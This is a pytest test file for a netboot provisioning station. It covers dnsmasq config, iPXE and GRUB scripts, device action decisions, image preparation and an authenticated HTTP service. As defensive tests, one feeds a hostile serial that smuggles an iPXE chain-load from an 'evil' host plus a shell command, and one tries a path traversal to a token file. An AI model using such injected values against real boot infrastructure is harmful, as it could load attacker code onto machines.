"""deelit serve without root: templates, action choice, HTTP service (scripts, Range, auth)."""

from __future__ import annotations

import hashlib
import json
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from provisioner.errors import DeelitError
from provisioner.flash import bmap as bm
from provisioner.netboot import dnsmasq, images, scripts
from provisioner.netboot.config import StationConfig
from provisioner.netboot.http import create_app
from provisioner.registry.lifecycle import EventType
from provisioner.registry.schemas import DeviceIn, EventIn
from provisioner.registry.settings import Settings
from provisioner.registry.store import Caller, Store

CALLER = Caller("test-station")


@pytest.fixture
def cfg(tmp_path: Path) -> StationConfig:
    installer = tmp_path / "installer"
    installer.mkdir()
    for name, size in (("vmlinuz", 1000), ("initrd.img", 2000), ("filesystem.squashfs", 3000)):
        (installer / name).write_bytes(bytes(range(256)) * (size // 256) + b"x" * (size % 256))
    return StationConfig(interface="br-lan", server_ip="192.168.77.2", subnet="192.168.77.0",
                         data_dir=tmp_path / "data", run_dir=tmp_path / "run",
                         image_dir=tmp_path / "image", installer_dir=installer)


@pytest.fixture
def store(cfg: StationConfig) -> Iterator[Store]:
    cfg.data_dir.mkdir(parents=True, exist_ok=True)
    s = Store(Settings(data_dir=cfg.data_dir))
    yield s
    s.close()


def make_image(folder: Path, build_id: str = "ci-20260101-abc", size: int = 8 << 20) -> bm.BlockMap:
    """A sparse raw image with two mapped islands, compressed like the disk artifact ships it."""
    folder.mkdir(parents=True, exist_ok=True)
    raw = folder / "ci.img"
    with raw.open("wb") as f:
        f.truncate(size)
        f.seek(0)
        f.write(b"\xeb\x63\x90" + b"A" * 8189)
        f.seek(5 << 20)
        f.write(b"B" * 12288)
    block_map = bm.create(raw)
    block_map.write(folder / "ci.bmap")
    subprocess.run(["zstd", "-q", "--rm", "-f", str(raw)], check=True)
    (folder / "manifest.json").write_text(json.dumps({"build_id": build_id,
                                                      "profile": {"name": "ci"}}))
    return block_map


def test_dnsmasq_config_is_proxy_dhcp_with_ipxe_per_architecture(cfg: StationConfig) -> None:
    text = dnsmasq.render_config(cfg)
    lines = [ln for ln in text.splitlines() if ln and not ln.startswith("#")]
    assert "dhcp-range=192.168.77.0,proxy" in lines  # never hands out addresses
    assert "port=0" in lines  # no DNS beside the router's
    assert "interface=br-lan" in lines and "bind-interfaces" in lines
    assert 'pxe-service=tag:!ipxe,x86PC,"deelit (BIOS)",undionly.kpxe' in lines
    assert 'pxe-service=tag:!ipxe,X86-64_EFI,"deelit (UEFI)",snponly.efi' in lines
    assert 'pxe-service=tag:ipxe,x86PC,"deelit",boot.ipxe' in lines  # iPXE: the chain script
    assert 'pxe-service=tag:ipxe,X86-64_EFI,"deelit",boot.ipxe' in lines
    assert "enable-tftp" in lines and f"tftp-root={cfg.run_dir / 'tftp'}" in lines
    assert not any(ln.startswith("dhcp-range") and "proxy" not in ln for ln in lines)


def test_secure_boot_sends_uefi_clients_to_shim(cfg: StationConfig) -> None:
    text = dnsmasq.render_config(cfg.model_copy(update={"secure_boot": True}))
    assert 'X86-64_EFI,"deelit (UEFI)",shimx64.efi' in text
    assert 'x86PC,"deelit (BIOS)",undionly.kpxe' in text  # BIOS machines unchanged


def test_tftp_root_has_debian_binaries_and_grub_config(cfg: StationConfig) -> None:
    if not dnsmasq.SOURCES["undionly.kpxe"][0].exists():
        pytest.skip("Debian package ipxe not installed")
    sb = cfg.model_copy(update={"secure_boot": True})
    with pytest.raises(DeelitError, match=r"outputs\.netboot\.secure_boot"):
        dnsmasq.populate_tftp(sb, "", "")  # an installer built without the signed chain
    # stand-ins for the installer's signed binaries (the real ones: the station e2e test)
    signed = {"shimx64.efi": b"shim" * 4096, "grubnetx64.efi": b"grub" * 4096}
    for name, data in signed.items():
        (sb.installer_dir / name).write_bytes(data)
    root = dnsmasq.populate_tftp(sb, scripts.grub_config(sb, "tok-1"), scripts.chain_script(sb))
    assert (root / "boot.ipxe").read_text() == scripts.chain_script(sb)
    for name in ("undionly.kpxe", "snponly.efi", "shimx64.efi", "grubx64.efi"):
        assert (root / name).stat().st_size > 10_000, name
        assert (root / name).stat().st_mode & 0o004  # dnsmasq reads as nobody
    assert (root / "grubx64.efi").read_bytes() == signed["grubnetx64.efi"]  # the image's GRUB
    assert (root / "shimx64.efi").read_bytes() == signed["shimx64.efi"]
    grub = (root / "grub" / "grub.cfg").read_text()
    assert "(http,192.168.77.2:8080)/installer/vmlinuz" in grub
    assert "deelit.action=auto" in grub and "deelit.token=tok-1" in grub
    assert "BOOTIF" not in grub  # an iPXE variable; GRUB would pass it literally


def test_chain_script_asks_with_serial_and_mac(cfg: StationConfig) -> None:
    text = scripts.chain_script(cfg)
    assert text.startswith("#!ipxe\n")
    assert text.index("\nexit\n") < text.index(":failed")  # a returning script is not a failure
    assert ("chain http://192.168.77.2:8080/boot.ipxe?serial=${smbios/serial:uristring}"
            "&mac=${net0/mac}") in text


def test_machine_script_boots_installer_with_action_token_and_bootif(cfg: StationConfig) -> None:
    m = scripts.Machine.from_query("DL-0001", "52:54:00:12:34:56", None, "pcbios")
    text = scripts.machine_script(cfg, m, scripts.Decision("wipe-install", "new"), "tok")
    kernel = next(ln for ln in text.splitlines() if ln.startswith("kernel "))
    assert kernel.startswith("kernel http://192.168.77.2:8080/installer/vmlinuz initrd=initrd.img ")
    for arg in ("boot=live", "fetch=http://192.168.77.2:8080/installer/filesystem.squashfs",
                "deelit.server=http://192.168.77.2:8080", "deelit.token=tok",
                "deelit.action=wipe-install", "BOOTIF=01-${net0/mac:hexhyp}"):
        assert f" {arg}" in kernel, arg
    assert "initrd http://192.168.77.2:8080/installer/initrd.img" in text
    local = scripts.machine_script(cfg, m, scripts.Decision("local", "ready"), "tok")
    assert "kernel" not in local and "\nexit\n" in local


def test_script_never_echoes_hostile_serial(cfg: StationConfig) -> None:
    m = scripts.Machine.from_query("x\nchain http://evil/;shell", None, None, None)
    text = scripts.machine_script(cfg, m, scripts.Decision("install", "new"), "tok")
    assert "\nchain" not in text and "shell\n" not in text.split("kernel")[0].split("\n", 2)[1]


def test_placeholder_serial_is_known_by_mac() -> None:
    m = scripts.Machine.from_query("To Be Filled By O.E.M.", "52-54-00-AA-BB-CC", None, None)
    assert m.usable_serial is None and m.key == "52:54:00:aa:bb:cc"
    assert scripts.Machine.from_query("PF2ABCDE", "52:54:00:aa:bb:cc", None, None).key == "PF2ABCDE"


def _register(store: Store, serial: str, mac: str, *events: EventType) -> str:
    dev = store.register(DeviceIn(serial=serial, macs=[mac]), CALLER)
    for ev in events:
        details = {"grade": "B"} if ev is EventType.graded else {}
        store.add_event(dev.asset_tag, EventIn(type=ev, details=details), CALLER)
    return dev.asset_tag


def test_action_from_registry_status_and_station_book(cfg: StationConfig, store: Store) -> None:
    book = scripts.ActionBook(cfg.data_dir / "actions.json")
    new = scripts.Machine.from_query("NEW-1", "52:54:00:00:00:01", None, None)
    assert scripts.decide(new, "wipe-install", book, store).action == "wipe-install"
    assert scripts.decide(new, "inventory", book, store).action == "inventory"
    _register(store, "READY-1", "52:54:00:00:00:02", EventType.wiped, EventType.imaged,
              EventType.verified, EventType.ready)
    ready = scripts.Machine.from_query("READY-1", None, None, None)
    assert scripts.decide(ready, "wipe-install", book, store).action == "local"
    _register(store, "BACK-1", "52:54:00:00:00:03", EventType.wiped, EventType.imaged,
              EventType.verified, EventType.ready, EventType.loaned, EventType.returned)
    back = scripts.Machine.from_query("BACK-1", None, None, None)
    d = scripts.decide(back, "install", book, store)
    assert d.action == "wipe-install" and "returned" in d.reason  # default for returned devices
    loaned_tag = _register(store, "LOAN-1", "52:54:00:00:00:04", EventType.wiped,
                           EventType.imaged, EventType.verified, EventType.ready, EventType.loaned)
    loan = scripts.Machine.from_query("LOAN-1", None, None, None)
    assert scripts.decide(loan, "wipe-install", book, store) == scripts.Decision(
        "local", f"{loaned_tag} is on loan: record it returned first")
    # placeholder serial: found by MAC
    oem = scripts.Machine.from_query("Default string", "52:54:00:00:00:02", None, None)
    assert scripts.decide(oem, "wipe-install", book, store).action == "local"
    # the station's own choice wins over the registry
    book.set("READY-1", "install")
    assert scripts.decide(ready, "wipe-install", book, store) == scripts.Decision(
        "install", "set for this machine at the station")
    book.set("READY-1", None)
    assert scripts.decide(ready, "wipe-install", book, store).action == "local"


def test_prepare_expands_image_once_and_refuses_mismatch(cfg: StationConfig) -> None:
    block_map = make_image(cfg.image_dir)
    prepared = images.prepare(cfg.image_dir, cfg.data_dir)
    assert prepared.build_id == "ci-20260101-abc" and prepared.size == 8 << 20
    assert prepared.mapped_bytes == block_map.mapped_blocks * 4096
    assert prepared.raw.read_bytes()[:3] == b"\xeb\x63\x90"
    assert prepared.raw.stat().st_blocks * 512 < 1 << 20  # holes stayed holes
    stamp = prepared.raw.stat().st_mtime_ns
    assert images.prepare(cfg.image_dir, cfg.data_dir).raw.stat().st_mtime_ns == stamp
    other = cfg.image_dir.parent / "other"
    make_image(other, "other-build")
    make_image(other / "bigger", "bigger", size=9 << 20)
    (other / "bigger" / "ci.bmap").replace(other / "ci.bmap")  # the map of another image
    with pytest.raises(DeelitError, match="do not match"):
        images.prepare(other, cfg.data_dir)
    assert not (cfg.data_dir / "images" / "other-build").exists()


def test_prepare_names_what_is_missing(cfg: StationConfig) -> None:
    cfg.image_dir.mkdir()
    with pytest.raises(DeelitError, match=r"manifest.json: missing"):
        images.prepare(cfg.image_dir, cfg.data_dir)
    (cfg.image_dir / "manifest.json").write_text('{"build_id": "x"}')
    with pytest.raises(DeelitError, match=r"no disk image"):
        images.prepare(cfg.image_dir, cfg.data_dir)


def test_http_service(cfg: StationConfig, store: Store) -> None:
    make_image(cfg.image_dir)
    prepared = images.prepare(cfg.image_dir, cfg.data_dir)
    token = store.create_token("pxe-test")
    client = TestClient(create_app(cfg, prepared, token, store))
    assert client.get("/boot.ipxe").text == scripts.chain_script(cfg)
    r = client.get("/boot.ipxe", params={"serial": "QEMU-1", "mac": "52:54:00:12:34:56"})
    assert "deelit.action=wipe-install" in r.text and f"deelit.token={token}" in r.text
    # files: whole and by range (what the agent does per mapped range)
    whole = client.get("/installer/vmlinuz")
    assert whole.content == (cfg.installer_dir / "vmlinuz").read_bytes()
    part = client.get("/image/disk.img", headers={"Range": f"bytes={5 << 20}-{(5 << 20) + 4095}"})
    assert part.status_code == 206 and part.content == b"B" * 4096
    assert client.get("/installer/../data/station-token").status_code == 404
    assert client.get("/image/ci.img.zst").status_code == 404
    assert hashlib.sha256(client.get("/image/disk.bmap").content).hexdigest() == hashlib.sha256(
        (prepared.folder / "disk.bmap").read_bytes()).hexdigest()
    assert client.get("/station/image").json()["build_id"] == "ci-20260101-abc"
    # progress and action need the token; the board shows what agents report
    body = {"key": "QEMU-1", "stage": "install", "percent": 42.5, "message": "writing"}
    assert client.post("/station/progress", json=body).status_code == 401
    auth = {"Authorization": f"Bearer {token}"}
    assert client.post("/station/progress", json=body, headers=auth).status_code == 204
    board = {m["key"]: m for m in client.get("/station/machines", headers=auth).json()}
    assert board["QEMU-1"]["stage"] == "install" and board["QEMU-1"]["percent"] == 42.5
    assert board["QEMU-1"]["action"] == "wipe-install"
    assert client.post("/station/progress", json={**body, "stage": "bogus"},
                       headers=auth).status_code == 422
    got = client.get("/station/action", params={"serial": "QEMU-1"}, headers=auth).json()
    assert got["action"] == "wipe-install"
    # the registry API is mounted on the same port
    reg = client.post("/api/v1/devices", json={"serial": "QEMU-1"}, headers=auth)
    assert reg.status_code == 201
    assert client.get("/station").status_code == 200


def test_station_serves_the_points_grading_thresholds(cfg: StationConfig, store: Store, tmp_path: Path) -> None:
    token = store.create_token("pxe-test")
    assert TestClient(create_app(cfg, None, token, store)).get("/station/thresholds.yaml").status_code == 404
    rules = tmp_path / "grading.yaml"
    rules.write_text("spec: {}\n")
    client = TestClient(create_app(cfg.model_copy(update={"thresholds": rules}), None, token, store))
    assert client.get("/station/thresholds.yaml").text == "spec: {}\n"
